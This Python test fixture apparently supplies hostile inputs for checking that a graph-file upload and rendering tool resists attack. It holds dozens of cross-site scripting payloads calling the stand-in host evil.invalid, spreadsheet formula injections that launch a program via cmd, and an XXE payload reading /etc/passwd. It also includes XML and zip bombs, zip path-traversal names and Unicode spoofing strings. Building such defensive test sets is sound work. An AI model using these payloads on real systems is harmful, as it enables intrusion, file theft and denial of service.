"""Hostile texts, and hostile files. Each text would set ``window.pwned`` or ask evil.invalid, if it ever ran."""

import io
import zipfile

ADDRESS = "https://evil.invalid/x"
RUN = "window.pwned=1"
TEXTS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{ADDRESS}.js"></script>',
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script, unclosed": f"<script>{RUN}",
    "script closed first": f"</script><script>{RUN}</script>",
    "script in a comment's end": f"--><script>{RUN}</script><!--",
    "script in CDATA": f"]]><script>{RUN}</script><![CDATA[",
    "script in a title": f"</title><script>{RUN}</script>",
    "script in a textarea": f"</textarea><script>{RUN}</script>",
    "script in a style": f"</style><script>{RUN}</script>",
    "script as an entity": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "script as numbers": f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "script in JSON": f'"}}]}}</script><script>{RUN}</script>',
    "image": f'<img src=x onerror="{RUN}">',
    "image elsewhere": f'<img src="{ADDRESS}.png">',
    "image without quotes": f"<img/src=x/onerror={RUN}>",
    "image with a set": f'<img srcset="{ADDRESS}.png 2x">',
    "SVG": f'<svg onload="{RUN}"></svg>',
    "SVG with a script": f"<svg><script>{RUN}</script></svg>",
    "SVG foreignObject": f'<svg><foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject></svg>',
    "SVG animate": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text y="20">x</text></a></svg>',
    "SVG use": f'<svg><use href="{ADDRESS}.svg#a"/></svg>',
    "SVG image": f'<svg><image href="{ADDRESS}.png"/></svg>',
    "SVG closed first": f'</text></svg><script>{RUN}</script><svg><text>',
    "MathML": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "body": f'<body onload="{RUN}">',
    "frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame with its own page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{ADDRESS}"></object>',
    "embed": f'<embed src="{ADDRESS}">',
    "base": '<base href="https://evil.invalid/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ADDRESS}">',
    "stylesheet": f'<link rel="stylesheet" href="{ADDRESS}.css">',
    "prefetch": f'<link rel="prefetch" href="{ADDRESS}">',
    "form": f'<form action="{ADDRESS}"><button autofocus>Send</button></form>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "video": f'<video src="{ADDRESS}.mp4" onerror="{RUN}" autoplay></video>',
    "link that runs": f'<a href="javascript:{RUN}">Open</a>',
    "link that runs, with a tab": f'<a href="java&#9;script:{RUN}">Open</a>',
    "link to data": f'<a href="data:text/html,<script>{RUN}</script>">Open</a>',
    "address that runs": f"javascript:{RUN}//",
    "address of data": f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{RUN}",
    "link in Markdown": f"[Open](javascript:{RUN})",
    "style": f'<b style="background:url({ADDRESS}.png)">x</b>',
    "style of Plotly": f'<span style="fill:url({ADDRESS}.svg#a)">x</span>',
    "link of Plotly": f'<a href="{ADDRESS}">x</a><br><b>bold</b><sup>up</sup>',
    "style breaking out": f'x" style="background:url({ADDRESS}.png)" x="',
    "style sheet": f"<style>@import url({ADDRESS}.css);*{{background:url({ADDRESS}.png)}}</style>",
    "style value": f"red;background:url({ADDRESS}.png)",
    "attribute breaking out": f'" onmouseover="{RUN}" x="',
    "attribute breaking out, single": f"' onfocus='{RUN}' autofocus='",
    "template of the server": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {%config%} {%scripts%}",
    "template of the browser": "%{text} %{customdata[0]} ${window.pwned=1} {{a.constructor('window.pwned=1')()}}",
    "TeX": "$\\href{javascript:window.pwned=1}{x}$ \\(\\unicode{60}\\)",
    "name of an object": "__proto__",
    "constructor": "constructor",
    "formula": f'=HYPERLINK("{ADDRESS}?"&A1,"Open")',
    "formula that starts a program": "=cmd|'/c calc'!A0",
    "formula with a plus": "+1+cmd|'/c calc'!A0",
    "formula with an at": '@SUM(1+1)*cmd|"/c calc"!A0',
    "formula with a minus": "-2+3+cmd|'/c calc'!A0",
    "formula of another width": "＝1+1",
    "formula behind what is not seen": "\u200b=1+1",
    "formula behind what joins words": "\u2060=1+1",
    "formula behind spaces": "\xa0 \u2003=1+1",
    "formula in a spreadsheet's web": f'=IMPORTXML("{ADDRESS}","//a")',
    "cells": 'a,b;c\td"e""f',
    "right to left": "safe \u202egpj.exe\u202c \u2066x\u2069 \u200fx",
    "zero width": "Serg\u200bey\u200c La\u2060vrov\ufeff\u00ad",
    "tags": "flag \U000e0067\U000e0062\U000e007f",
    "control characters": "a\x00b\x08c\x1b[31md\x7fe\x9bf",
    "half a surrogate": "a\ud83d b\udca9 c",
    "no character": "a\ufffe b\uffff c\ufffd",
    "letters on letters": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 80,
    "line ends": "a\r\nb\u2028c\u2029d\x85e",
    "an enormous word": "W" * 3_900,
    "an enormous name": ("Ottokar of the Long Names " * 160)[:3_900].strip(),
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈💩" * 40,
    "scripts": "العربية עברית ไทย 中文 हिन्दी " * 4,
}  # fmt: skip


def zipped(*files: tuple[str, bytes]) -> bytes:
    """Return a zip archive of *files*, named as they are given."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


GRAPHML = '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph><node id="{}"/></graph></graphml>'
READING = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
INCLUDE = f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{ADDRESS}"/></a>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
TIES = b"from,to\na,b\n"
FILES: dict[str, tuple[str, bytes]] = {  # each must be refused in words, or opened without what is hostile about it
    "XML bomb": ("a.graphml", f"<!DOCTYPE a [{LAUGHS}]>{GRAPHML.format('&l9;')}".encode()),
    "XML bomb of one entity": ("a.gexf", f'<!DOCTYPE a [<!ENTITY x "{"a" * 9_000}">]>{"&x;" * 9_000}'.encode()),
    "XML that reads a file": ("a.graphml", f"{READING}{GRAPHML.format('&x;')}".encode()),
    "XML that asks elsewhere": ("a.graphml", f'<!DOCTYPE a SYSTEM "{ADDRESS}.dtd">{GRAPHML.format("a")}'.encode()),
    "XML that includes": ("a.graphml", INCLUDE.encode()),
    "XML with a style sheet": ("a.graphml", f'<?xml-stylesheet href="{ADDRESS}.xsl"?>{GRAPHML.format("a")}'.encode()),
    "XML without a bottom": ("a.graphml", b"<a>" * 200_000),
    "JSON without a bottom": ("a.json", b"[" * 500_000),
    "GML without a bottom": ("a.gml", b"graph [ " * 200_000),
    "zip bomb": ("a.zip", zipped(("ties.csv", b"0" * 300_000_000))),
    "zip in a zip": ("a.zip", zipped(("b.zip", zipped(("ties.csv", TIES))))),
    "zip of a thousand files": ("a.zip", zipped(*((f"{n}.csv", TIES) for n in range(1_500)))),
    "zip that leads up": ("a.zip", zipped(("../../../tmp/pwned.csv", TIES))),
    "zip that leads to the root": ("a.zip", zipped(("/pwned.csv", TIES))),
    "zip that leads to a drive": ("a.zip", zipped(("C:\\pwned.csv", TIES))),
    "zip with a name that runs": ("a.zip", zipped((f"<img src=x onerror={RUN}>.csv", TIES))),
    "workbook bomb": ("a.xlsx", zipped(("[Content_Types].xml", b"<a/>"), ("xl/workbook.xml", b" " * 200_000_000))),
    "file whose name runs": (f"<img src=x onerror={RUN}>.csv", TIES),
    "file whose name turns": ("a\u202egpj.csv", TIES),
}  # fmt: skip
